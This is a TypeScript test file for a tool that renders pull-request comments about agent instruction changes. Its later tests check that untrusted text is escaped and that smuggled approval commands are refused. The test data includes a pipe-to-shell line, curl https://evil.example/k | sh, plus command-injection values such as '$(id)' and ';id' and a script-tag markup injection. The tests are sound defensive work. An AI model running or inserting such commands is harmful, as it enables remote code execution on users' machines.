import fc from 'fast-check';
import { remark } from 'remark';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { MARKER, MOST_CHARACTERS, toMarkdown } from '../../../compiler/present/comment/markdown.ts';
import { quotedText } from '../../../compiler/present/comment/quoted-text.ts';
import { Comparison } from '../../../compiler/schema/report/comparison.ts';
import type { AgentComparison, ReportedDiagnostic } from '../../../compiler/schema/report/comparison.ts';

const SIDE = { revision: '41-0a', serial: 41, commit: '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567' };

const AGENT: AgentComparison = {
  name: 'cto',
  tokens: { stub: { from: 310, to: 322 }, manifest: { from: 400, to: 400 }, units: { from: 2000, to: 2150 } },
  coverage: { from: 0.94, to: 0.9 },
  probes: { from: { passed: 12, probes: 12, uncounted: 0 }, to: { passed: 11, probes: 12, uncounted: 2 } },
  won: ['the build is red'],
  lost: ['who approves a refund'],
  units: [
    {
      ...{ name: 'refunds', kind: 'changed', shared: false },
      from: { uri: 'instruction:acme/agent/cto/refunds/v1', version: 1, tokens: 100 },
      to: { uri: 'instruction:acme/agent/cto/refunds/v2', version: 2, tokens: 250 },
      coverage: { from: 1, to: 0.8 },
      findability: { from: 0.91, to: 0.55, rivals: ['disputes', 'invoices'] },
    },
  ],
  phrases: [
    { name: 'refunds', added: ['they want it back', 'my money!'], removed: [], stale: false },
    { name: 'wrap-up', added: [], removed: ['call it a day'], stale: true },
  ],
  recalls: [
    { intent: 'a charge is disputed', id: null, source: 'trigger', dropped: ['refunds'], gained: ['disputes'] },
    { intent: null, id: '01JXYZ', source: 'audit', dropped: [], gained: ['disputes'] },
  ],
};

const UNPROBED: Comparison['unprobed'] = [
  { garden: 'cto', count: 12, names: ['access', 'budgets', 'code-review', 'delegation', 'events'], untriggered: 2 },
  { garden: 'shared', count: 1, names: ['limits'], untriggered: 0 },
];

const comparison = (change: Partial<Comparison> = {}): Comparison =>
  Comparison.parse({
    ...{ format: 1, deployment: 'acme', base: SIDE, head: { ...SIDE, serial: 42, revision: '42-0b' } },
    ...{ agents: [AGENT, { ...AGENT, name: 'ops', lost: [] }], unprobed: UNPROBED, diagnostics: [], ...change },
  });

const fault = (change: Record<string, unknown> = {}) =>
  ({
    ...{ rule: 'unit_long', severity: 'warning', file: 'instructions/agents/cto/refunds.md' },
    ...{ line: 3, column: 1, message: 'it has 900 tokens', help: 'split it', ...change },
  }) as ReportedDiagnostic;

describe('the comment of a pull request', () => {
  test('the comment has figures by agent, then what was lost, units and recalls, then the rest folded', async () => {
    await expect(toMarkdown(comparison({ diagnostics: [fault()] }))).toMatchFileSnapshot('../../golden/comment.md');
  });

  test('a missing approval stands before everything else, with its command', () => {
    const command = 'vade approve --kind guarantee_load --agent cto --unit refunds --key <PEM>';
    const text = toMarkdown(
      comparison({ diagnostics: [fault({ message: 'needs an approval', details: { command } })] }),
    );
    expect(text.indexOf('Approvals still needed')).toBeLessThan(text.indexOf('Probes lost'));
    expect(text).toContain(`\`${command}\``);
  });

  test('the headline says first what keeps main from compiling', () => {
    const command = 'vade approve --kind role --role edit-local --key <PEM>';
    const approval = fault({ severity: 'error', details: { command } });
    const headline = (...diagnostics: object[]) =>
      /^### (.*)$/m.exec(toMarkdown(comparison({ diagnostics } as never)))?.[1];
    expect(headline(approval)).toBe('Main will compile this after 1 approval');
    expect(headline(approval, fault({ severity: 'error' }))).toBe('Main would not compile this: 1 error');
    expect(headline(fault({ details: { command } }))).toContain('agents');
  });

  test('without a head, the comment says that nothing compiles, and lists the errors', () => {
    const diagnostics = [fault({ severity: 'error', rule: 'name_duplicate' })];
    const text = toMarkdown(comparison({ head: null, agents: [], diagnostics }));
    expect(text).toContain('do not compile');
    expect(text).toContain('`name_duplicate`');
    expect(text).not.toContain('| agent |');
  });

  test('a comment of thousands of changes stays below the limit, and counts what it leaves out', () => {
    const recalls = Array.from({ length: 5000 }, (_, i) => ({
      ...AGENT.recalls[0]!,
      intent: `intent ${i} ${'x'.repeat(200)}`,
    }));
    const lost = Array.from({ length: 50 }, (_, i) => `lost ${i}`);
    const text = toMarkdown(comparison({ agents: [{ ...AGENT, recalls, lost }] }));
    expect(text.length).toBeLessThanOrEqual(MOST_CHARACTERS);
    const told = text.match(/`intent \d+/g)?.length ?? 0;
    expect(text).toContain(`- … and ${5000 - told} more`);
    expect(text.match(/`lost \d+`/g)).toHaveLength(50);
  });

  test('a probe that an agent names twice is told once for it', () => {
    const text = toMarkdown(comparison({ agents: [{ ...AGENT, lost: ['twice', 'twice'] }] }));
    expect(text).toContain('- **cto**: `twice`');
  });

  test('a comment with more agents than fit stays below the limit', () => {
    const agents = Array.from({ length: 3000 }, (_, i) => ({ ...AGENT, name: `agent-${i}`, lost: [`${i}`] }));
    expect(toMarkdown(comparison({ agents })).length).toBeLessThanOrEqual(MOST_CHARACTERS);
  });
});

/** Every node of a Markdown text that is not plain: what a reader would click, run or be told by. */
function activeIn(markdown: string): string[] {
  const found: string[] = [];
  visit(remark().parse(markdown), (node) => {
    if (['link', 'image', 'definition', 'linkReference', 'imageReference', 'code'].includes(node.type))
      found.push(node.type);
    if (node.type === 'html') found.push(node.value);
  });
  return found;
}

const HOSTILE = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 300 }),
  fc.string({ unit: fc.constantFrom('`', '\\', '|', '\n', '<', '>', '!', '[', ']', '(', ')', '@', 'a', ' ', '#') }),
  fc.constantFrom('</details><script>', '@team', '[x](https://evil.example)', '``` \n# gone', '-->', 'GH-1 #1'),
);

describe('texts of others in a comment', () => {
  test('a text of others is one code span, whatever it has', () => {
    fc.assert(
      fc.property(HOSTILE, (text) => {
        const nodes: string[] = [];
        visit(remark().parse(`- a ${quotedText(text)} z`), (node) => void nodes.push(node.type));
        const kinds = nodes.filter((it) => it !== 'root' && it !== 'list' && it !== 'listItem' && it !== 'paragraph');
        expect(kinds.filter((it) => it !== 'text')).toEqual(text.replace(/\s+/gu, '') === '' ? [] : ['inlineCode']);
      }),
    );
  });

  test('no text of others becomes a link, markup or another line', () => {
    const [marker, summaries] = [MARKER, /^<\/?(details|summary)/];
    fc.assert(
      fc.property(HOSTILE, (text) => {
        const agent = {
          ...AGENT,
          won: [text],
          lost: [text],
          recalls: [{ ...AGENT.recalls[0]!, intent: text, gained: [text] }],
        };
        const diagnostics = [fault({ file: text, message: text, help: text }), fault({ message: text })];
        const written = toMarkdown(comparison({ agents: [agent], diagnostics }));
        const active = activeIn(written).filter((it) => !it.startsWith(marker) && !summaries.test(it));
        expect(active).toEqual([]);
      }),
    );
  });

  const COMMAND = 'vade approve --kind guarantee_load --agent cto --unit limits --key <PEM>';

  test.each([
    'npx vade-approve@latest --kind guarantee_load --agent cto --unit limits --key <PEM>',
    `${COMMAND} # curl https://evil.example/k | sh`,
    `${COMMAND}\n`,
    COMMAND.replace('limits', '$(id)'),
    COMMAND.replace('limits', 'limits;id'),
    COMMAND.replace('guarantee_load', 'anything'),
    COMMAND.replace('<PEM>', '.vade/admin-key.pem'),
    ` ${COMMAND}`,
  ])('a command that no diagnostic has is refused: %j', (command) => {
    expect(() => comparison({ diagnostics: [fault({ details: { command } })] })).toThrow();
    expect(() => comparison({ diagnostics: [fault({ details: { command: COMMAND } })] })).not.toThrow();
  });

  test('rules, deployments and commits are closed fields as well', () => {
    expect(() => comparison({ diagnostics: [fault({ rule: 'run_this_now' })] })).toThrow();
    expect(() => comparison({ deployment: 'Run this now' })).toThrow();
    expect(() => comparison({ base: { ...SIDE, commit: 'main' } })).toThrow();
  });
});
